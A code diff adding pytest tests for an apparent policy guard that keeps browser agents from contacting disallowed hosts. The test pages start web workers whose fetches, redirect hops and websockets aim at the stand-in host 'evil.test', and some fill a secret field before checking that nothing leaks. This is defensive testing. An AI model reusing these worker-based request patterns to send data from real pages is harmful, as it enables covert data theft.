@@ -284,3 +284,149 @@ def test_one_policy_per_distinct_rule_most_restrictive_first() -> None:
     assert len(policies) == 2
     assert "b.test" not in policies[0] and "b.test" in policies[1]
     assert csp_policies(_rules(deny=["evil.test"]).domain_allow) == []
+
+
+WORKER_SCRIPT = (
+    "const o = {mode: 'no-cors'};"
+    " fetch('http://app.test/hop?to=' + encodeURIComponent('http://{D}/w?c={M}-hop'), o).catch(() => {});"
+    " fetch('http://{D}/w?c={M}-direct', o).catch(() => {});"
+    " try { new WebSocket('ws://{D}/ws?c={M}-ws'); } catch (e) {}"
+)
+WORKER_PAGE = """<!doctype html><html><head></head><body><input id="q"><script>
+document.getElementById("q").addEventListener("input", () => {
+  {R}
+}, {once: true});
+</script></body></html>"""
+WORKERS = {
+    "dedicated": "new Worker('/csp-worker/{M}.js');",
+    "shared": "new SharedWorker('/csp-worker/{M}.js');",
+    "service": "navigator.serviceWorker.register('/csp-worker/{M}.js');",
+}
+ALLOW_LOCAL = PolicySet.from_dict(
+    {
+        "version": 1,
+        "policies": [
+            {
+                "id": "T-w",
+                "category": "boundary",
+                "risk_level": "high",
+                "description": "Where the agent may go.",
+                "rules": [{"domain_allow": ["127.0.0.1", "app.test", "other.test"]}],
+            }
+        ],
+    }
+)
+
+
+def _serve_worker(site: LocalSite, kind: str, dest: str, mark: str) -> str:
+    """A page on 127.0.0.1 (a secure context: service workers may register) starting a `kind`
+    worker from a script URL whose fetches (direct and through an allowed hop) and websocket
+    go to `dest`."""
+    script = WORKER_SCRIPT.replace("{D}", dest).replace("{M}", mark)
+    if kind == "service":
+        script = f"self.addEventListener('install', () => {{ {script} }});"
+    js = Response(script, content_type="text/javascript")
+    site.route("127.0.0.1", f"/csp-worker/{mark}.js", lambda _r: js)
+    path = f"/csp-worker/{mark}.html"
+    body = WORKER_PAGE.replace("{R}", WORKERS[kind].replace("{M}", mark))
+    site.route("127.0.0.1", path, lambda _r: Response(body))
+    return f"http://127.0.0.1:{site.port}{path}"
+
+
+def _marked(site: LocalSite, host: str, mark: str) -> list[RecordedRequest]:
+    return [r for r in site.requests_to(host) if str(r.query.get("c", [""])[0]).startswith(mark)]
+
+
+@pytest.mark.parametrize("kind", sorted(WORKERS))
+async def test_a_worker_from_a_url_gets_the_policy_under_wrap(page: Page, hops: LocalSite, kind: str) -> None:
+    """A dedicated, shared or service worker loaded from a URL has the policy of its script's
+    response, not of the page: the gate's DevTools session gives worker scripts the policy, so
+    even on a page given to `Guard.wrap` (whose browser keeps shared and service workers) the
+    worker's fetch, redirect hop and websocket to a refused host go nowhere, and the refusal is
+    an event of the gate (the worker's policy reports to the session, which answers itself)."""
+    hops.route("127.0.0.1", "/hop", _hop)
+    mark = f"csp-worker-{kind}"
+    guard = Guard(ALLOW_LOCAL, goal="Use the app.")
+    events: list[Any] = []
+    guard.subscribe(events.append)
+    guarded = guard.wrap(page)
+    await guarded.goto(_serve_worker(hops, kind, "evil.test", mark))
+    await guarded.fill("#q", "x")
+    await page.wait_for_timeout(1500)
+    assert _marked(hops, "evil.test", mark) == []
+    if kind != "service":  # a service worker sends no report-uri report
+        assert await _until(lambda: any(e["host"] == "evil.test" for e in _gate_events(events)))
+
+
+@pytest.mark.parametrize("kind", sorted(WORKERS))
+async def test_the_same_worker_reaching_an_allowed_host_works(page: Page, hops: LocalSite, kind: str) -> None:
+    hops.route("127.0.0.1", "/hop", _hop)
+    mark = f"csp-worker-twin-{kind}"
+    guarded = Guard(ALLOW_LOCAL, goal="Use the app.").wrap(page)
+    await guarded.goto(_serve_worker(hops, kind, "other.test", mark))
+    await guarded.fill("#q", "x")
+    assert await _until(lambda: {r.query["c"][0] for r in _marked(hops, "other.test", mark)} >= {
+        f"{mark}-hop", f"{mark}-direct", f"{mark}-ws"})  # fmt: skip
+
+
+DENY_ONLY = PolicySet.from_dict(
+    {
+        "version": 1,
+        "policies": [
+            {
+                "id": "T-d",
+                "category": "boundary",
+                "risk_level": "high",
+                "description": "Never talk to evil.test.",
+                "rules": [{"domain_deny": ["evil.test"]}],
+            }
+        ],
+    }
+)
+
+
+@pytest.mark.parametrize("route", ["image", "fetch", "script", "css_url", "chain", "prefetch", "font"])
+async def test_deny_only_policies_refuse_a_hop_to_a_denied_host(
+    page: Page, hops: LocalSite, route: str
+) -> None:
+    """A deny-list is no policy CSP can state: the gate's DevTools session pauses requests of any
+    kind to the denied hosts (each redirect hop is a new request to it) and refuses them."""
+    mark = f"csp-deny-{route}"
+    url = _serve(hops, PAGE.replace("{R}", ROUTES[route].replace("{D}", "evil.test").replace("{M}", mark)))
+    guard = Guard(DENY_ONLY, goal="Log in to the app.")
+    events: list[Any] = []
+    guard.subscribe(events.append)
+    guarded = guard.wrap(page)
+    await guarded.goto(url)
+    await guarded.fill("#secret", "hello-world-123")
+    await page.wait_for_timeout(900)
+    assert _reached(hops, "evil.test", mark) == []
+    assert any(e["host"] == "evil.test" and e["rule"] == "domain_deny" for e in _gate_events(events))
+    await guarded.hover("body")
+
+
+@pytest.mark.parametrize("route", ["image", "fetch", "script", "chain"])
+async def test_deny_only_policies_let_a_hop_elsewhere_arrive(page: Page, hops: LocalSite, route: str) -> None:
+    mark = f"csp-deny-twin-{route}"
+    url = _serve(hops, PAGE.replace("{R}", ROUTES[route].replace("{D}", "other.test").replace("{M}", mark)))
+    guarded = Guard(DENY_ONLY, goal="Log in to the app.").wrap(page)
+    await guarded.goto(url)
+    await guarded.fill("#secret", "hello-world-123")
+    assert await _until(lambda: bool(_reached(hops, "other.test", mark)))
+
+
+@pytest.mark.parametrize("kind", ["shared", "service"])
+async def test_deny_only_policies_refuse_a_workers_requests_under_wrap(
+    page: Page, hops: LocalSite, kind: str
+) -> None:
+    """Shared and service workers' requests, which Playwright's routes do not see, to a denied
+    host (directly or through a hop) are refused by the gate's DevTools session. (Their
+    websockets are not: DevTools' request interception does not see websockets.)"""
+    hops.route("127.0.0.1", "/hop", _hop)
+    mark = f"csp-deny-worker-{kind}"
+    guarded = Guard(DENY_ONLY, goal="Use the app.").wrap(page)
+    await guarded.goto(_serve_worker(hops, kind, "evil.test", mark))
+    await guarded.fill("#q", "x")
+    await page.wait_for_timeout(1500)
+    got = {r.query["c"][0] for r in _marked(hops, "evil.test", mark)}
+    assert f"{mark}-hop" not in got and f"{mark}-direct" not in got
